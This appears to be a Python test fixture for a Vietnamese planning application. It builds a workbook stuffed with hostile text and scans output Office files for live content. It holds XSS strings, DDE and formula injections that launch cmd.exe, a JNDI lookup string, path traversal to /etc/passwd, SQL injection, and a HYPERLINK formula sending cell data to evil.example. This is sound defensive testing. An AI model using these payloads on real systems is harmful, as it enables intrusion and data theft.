"""Texts that try to be more than text, and plans and workbooks made of them."""

from __future__ import annotations

import re
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from functools import cache
from html import escape
from io import BytesIO

from make_sample import SAMPLE
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from lib.base import vietnamese as vn
from lib.plan import Area, Decision, Indicator, Milestone, Origin, Plan, PlanInfo, Task
from lib.reading import form
from lib.reading.form import ColumnKind, SheetForm

HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"bấm")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://evil.example/tep.docx và mailto:ai@evil.example",
    "{ HYPERLINK http://evil.example } { INCLUDETEXT C:\\\\x }",
    "<w:p>&amp;</w:t> <b>đậm</b> ]]> &#x41;",
    "Trước\x00\x01\x07\x0b\x1fsau\x7f\ufffe",
    "Văn bản rất dài " * 313,
    "x" * 5_000,
    "\u202eđảo ngược\u202c và \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "👩‍👩‍👧‍👦 🇻🇳 ✓ ● việc có hình",
    "_x0041_ _x000D_ ﷽ ẩ̃́",
)
"""Formulas, links, fields, markup, control characters, long texts, right-to-left, emoji, escapes."""

EVIL = "http://evil.example"
MARKUP = (
    '<script>alert("dochai")</script>',
    f"<img src={EVIL}/x.png class=dochai onerror=alert(1)>",
    "<svg class=dochai onload=alert(1)><text>vẽ</text></svg>",
    "<style>body{display:none}</style> ẩn hết",
    "</style><b class=dochai>thoát kiểu</b>",
    f"<iframe class=dochai src={EVIL}></iframe>",
    "<a class=dochai href=javascript:alert(1)>bấm</a>",
    f'<base href="{EVIL}/"> gốc',
    f'<meta http-equiv=refresh content="0;url={EVIL}"> chuyển',
    "\"><b class=dochai onmouseover=alert(1)>ngoặc</b> ' ` &lt;i&gt; &#60;u&#62;",
    "</td></tr></table></section></div><h1 class=dochai>thoát bảng</h1>",
    "<!-- chú thích ]]></text></svg> --> vẫn còn",
    f'<div class=dochai style="background:url({EVIL}/y)">nền</div>',
    f"[liên kết]({EVIL}) ![ảnh]({EVIL}/z.png) <{EVIL}>",
    "# Tiêu đề lớn",
    "**đậm** *nghiêng* ~~gạch~~ `mã` ==tô== __dưới__",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<b class=dochai>khối</b>\n```",
    "> trích\n- [x] việc\n1. một\n---",
    ":red[đỏ] :blue-background[nền] :red-badge[nhãn] :rainbow[cầu vồng]",
    ":material/home: :streamlit: :smile: :sunglasses: :small[nhỏ] :shimmer[a]",
    "$\\LaTeX$ và $$\\frac{1}{2}$$ và \\(x\\)",
    f"<b>đậm</b><br>dòng hai <a href='{EVIL}'>nối</a> %{{x}} %{{customdata}}<extra>thêm</extra>",
    "%s %d %n {0} {x!r} {{x}} ${jndi:ldap://evil.example/a} #{7*7}",
    "../../../../etc/passwd và ..\\..\\win.ini và %2e%2e%2f",
    "\\\\evil.example\\chung\\tep.xlsx và file:///etc/passwd",
    "'; DROP TABLE versions; -- \" OR 1=1",
    "\x1b[31mđỏ\x1b[0m \x07 chuông",
)
FORMULAS = (
    f'=HYPERLINK("{EVIL}/?q="&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 đứng sau dấu tab",
    "\r=2+2 đứng sau xuống dòng",
    "＝1+1 ＋1 －1 ＠SUM toàn khổ",
    f"{EVIL}/tep.docx và mailto:ai@evil.example và tel:113",
    f"{{ HYPERLINK {EVIL} }} {{ DDEAUTO c:\\\\windows\\\\cmd.exe }}",
    "BEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM;X=\\,\\;",
)
ODD = (
    "Từ" + "x" * 9_998,
    "\n".join(f"dòng {number}" for number in range(1, 501)),
    "\u202e\u2066đảo ngược\u2069\u202c \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 12/7",
    "không\u200b \u200drộng\ufeff \u2060ẩn\u00ad",
    "Z" + "\u0300\u0334\u0489" * 40 + "algo" + "\u0338" * 60,
    "lẻ\ud800 đôi\udfff",
    "NUL\x00 và \x01\x08\x1f\x7f\x85 điều khiển",
    "Hàn\u115f\u1160\u3164\uffa0 trống\u2800\u2800\u2800 braille",
    "chọn\ufe0f\U000e0100 kiểu \U000e0041\U000e007f thẻ",
    "\ufffe\uffff không là ký tự \ufdd0",
    "👩‍👩‍👧‍👦 🏴‍☠️ 🇻🇳 ✓ ● ▲ ? việc có hình",
    "Rà soát thủ tục hành chính",
    "Rà soát thủ tục hành сhính",
    "\uf0b7 đầu dòng của Wingdings \uf0fc",
    "_x0041_ _x000D_ ﷽ ẩ̃́",
    "w" * 300 + " " + "﷽" * 40,
)
PAYLOADS = (*MARKUP, *FORMULAS, *ODD)
"""What the hostile workbook holds: HTML, Markdown, Streamlit's and plotly's own signs, formulas, odd characters."""

LONG = 2_000
"""Longer texts stand once in each column: a screen full of them would only be slow."""

FILE_NAME = "..%2f=cmd 'x' :red[tệp] $a$ `b` **c** <img src=x onerror=alert(1)> {0} %s.xlsx"
"""As a browser sends it: no directories."""

SHEET_NAME = "<b class=dochai>[s](x) :red[s] $s$ `s`"


def letters(text: str) -> str:
    """The text's letters, digits, marks and signs in order: no spaces, no invisible or control characters."""
    return "".join(
        char for char in text if unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Cn", "Zs", "Zl", "Zp")
    )


def flat(text: str) -> str:
    """The text as it should be read on a screen: cleaned, on one line."""
    return " ".join(vn.clean(text).split())


# A workbook


@cache
def hostile_book(spent: int = 0) -> bytes:
    """The sample with hostile text in every place for words; what is needed to read it (dates, numbers, most
    codes, headings) stays. spent is so many đồng more than the sample spent."""
    book = load_workbook(BytesIO(SAMPLE.read_bytes()))
    book["Chi"]["C8"].value += spent
    texts: list[str] = []
    for sheet_form in (form.TASKS, *form.RECORD_SHEETS):
        for offset, (sheet, column) in enumerate(_columns_of_words(book, sheet_form)):
            _fill(sheet, column, 7 * offset, texts)
    _fill_info(book["Thông tin"], texts)
    _fill_codes(book["Nhiệm vụ"], texts)
    _add_sheet(book, texts)
    stream = BytesIO()
    book.save(stream)
    return _with_texts(stream.getvalue(), texts)


def _columns_of_words(book: Workbook, sheet_form: SheetForm) -> Iterator[tuple[Worksheet, int]]:
    """The columns that take any words; the sample's stand in the form's order."""
    for number, column in enumerate(sheet_form.columns, start=1):
        if column.kind is ColumnKind.TEXT and column.field not in ("direction", "combine"):
            yield book[sheet_form.title], number


HEADING_ROW, TITLE, DEADLINE = 4, 2, 6


def _fill(sheet: Worksheet, column: int, start: int, texts: list[str]) -> None:
    """Every filled cell of a column below the heading gets the next text; empty ones of a task's row too."""
    place = start
    for row in range(HEADING_ROW + 1, sheet.max_row + 1):
        given = sheet.cell(row, column).value is not None or (_is_work(sheet, row) and column > TITLE)
        if not given or _is_total(sheet, row):
            continue
        text = PAYLOADS[place % len(PAYLOADS)]
        if len(text) < LONG or place < start + len(PAYLOADS):
            _put(sheet, row, column, text, texts)
        place += 1


def _is_work(sheet: Worksheet, row: int) -> bool:
    """Not an empty row, nor that of an area or a group, which would become a task."""
    first = DEADLINE if sheet.title == form.TASKS.title else 1
    return any(cell.value is not None for cell in sheet[row][first - 1 : DEADLINE])


def _is_total(sheet: Worksheet, row: int) -> bool:
    return any(
        vn.bare(str(cell.value)) in ("tong cong", "tong so", "tong kinh phi", "tong")
        for cell in sheet[row][:3]
    )


def _fill_info(sheet: Worksheet, texts: list[str]) -> None:
    """The lines of words in Thông tin: who, above whom, the plan's number, how documents are signed."""
    wanted = (
        "unit",
        "superior",
        "number",
        "place",
        "symbol",
        "signing_capacity",
        "signing_post",
        "signer",
        "recipients",
    )
    names = {name: number for number, field in enumerate(wanted) for name in form.INFO_LABELS[field]}
    for row in range(1, sheet.max_row + 1):
        if (number := names.get(str(sheet.cell(row, 1).value))) is not None:
            _put(sheet, row, 2, MARKUP[(3 * number + 1) % len(MARKUP)], texts)


def _fill_codes(sheet: Worksheet, texts: list[str]) -> None:
    """Some rows have a code that is none, some a deadline that is none."""
    rows = [row for row in range(12, sheet.max_row) if str(sheet.cell(row, 1).value or "").count(".") > 1]
    for row, text in zip(rows[::4], (*MARKUP[:6], *FORMULAS[:4], "1." * 3_000, "9" * 400), strict=False):
        _put(sheet, row, 1, text, texts)
    for row, text in zip(rows[1::4], (*MARKUP[13:22], *FORMULAS), strict=False):
        _put(sheet, row, 6, text, texts)


def _add_sheet(book: Workbook, texts: list[str]) -> None:
    """A hidden sheet that nobody asked for; its name gets hostile, too, where openpyxl cannot object."""
    sheet = book.create_sheet("SHEET-NAME")
    sheet.sheet_state = "hidden"
    for row, text in enumerate(PAYLOADS, start=1):
        _put(sheet, row, 1, text, texts)


def _put(sheet: Worksheet, row: int, column: int, text: str, texts: list[str]) -> None:
    """A stand-in for the text: openpyxl refuses control characters and makes formulas of others."""
    sheet.cell(row, column).value = f"TEXT-{len(texts)}-END"
    texts.append(text)


def _with_texts(data: bytes, texts: list[str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/workbook.xml":
                content = content.replace(b"SHEET-NAME", escape(SHEET_NAME).encode())
            if name.startswith("xl/worksheets/"):
                words = content.decode()
                content = re.sub(
                    r"<t>TEXT-(\d+)-END</t>", lambda m: _stored(texts[int(m[1])]), words
                ).encode()
            target.writestr(name, content)
    return out.getvalue()


def _stored(text: str) -> str:
    """The text as Excel stores it: what XML cannot hold as _x0007_."""
    safe = re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)
    coded = re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", lambda m: f"_x{ord(m[0]):04X}_", safe)
    return f'<t xml:space="preserve">{escape(coded)}</t>'


# What must not be in a file that we give


LIVE = {
    "xl/": rb"<f[ >/]|<hyperlink[^>]*r:id|ddeLink|<oleObject|xlMacrosheet",
    "word/": rb"<w:fldSimple|<w:hyperlink|<w:object|<w:altChunk|attachedTemplate|mailMerge",
    "ppt/": rb"hlinkClick|hlinkHover|<p:oleObj|<p:video|<p:audio|<p:control",
}
"""What runs, opens or fetches something, by the part of an Office file that could hold it."""
FIELDS = {"PAGE", "NUMPAGES", "PAGE   \\* MERGEFORMAT"}


def live(data: bytes) -> list[str]:
    """Everything in an Office file that is more than text, also in the workbooks behind its charts."""
    found = []
    with zipfile.ZipFile(BytesIO(data)) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            if re.search(r"vbaProject|externalLink|activeX|oleObject", name):
                found.append(name)
            elif name.endswith(".xlsx"):
                found += [f"{name}: {part}" for part in live(content)]
            elif name.endswith(".rels") and b"External" in content:
                found.append(f"{name}: {content[:200]!r}")
            for folder, pattern in LIVE.items():
                if name.startswith(folder) and name.endswith(".xml"):
                    found += [f"{name}: {hit!r}" for hit in re.findall(pattern, content)]
            codes = re.findall(r"<w:instrText[^>]*>([^<]*)<", content.decode("utf-8", "replace"))
            found += [f"{name}: {code}" for code in codes if code.strip() not in FIELDS]
    return found


# Plans


def plan_titled(text: str) -> Plan:
    """A plan of 2020 whose one task has this title and nothing else is strange."""
    plain = plan_with("Văn phòng – Thống kê")
    return replace(plain, rows=(replace(plain.rows[0], title=text),))


def plan_with(text: str) -> Plan:
    """A plan of 2020 whose area, task, unit, evidence, obstacle, indicator and decision are this text."""
    task = Task(
        key="1.1",
        code="1.1",
        title=text,
        area="1",
        lead=text,
        deadline_text=text,
        internal_due=date(2020, 3, 31),
        milestones=(Milestone(text, date(2020, 3, 31)),),
        obstacle=text,
        evidence=text,
        product=text,
        allocated=1_000_000,
        declared_spent=250_000,
        updated=date(2020, 5, 1),
        origin=Origin("Nhiệm vụ", 5),
    )
    return Plan(
        info=PlanInfo(unit=text, superior=text, year=2020, number=text, report_date=date(2020, 6, 30)),
        areas=(Area("1", text, 1_000_000),),
        rows=(task,),
        indicators=(Indicator("CT01", text, area="1", unit=text, target=5.0),),
        decisions=(Decision(text, meeting=date(2020, 5, 5), unit=text, due=date(2020, 5, 31), task="1.1"),),
    )
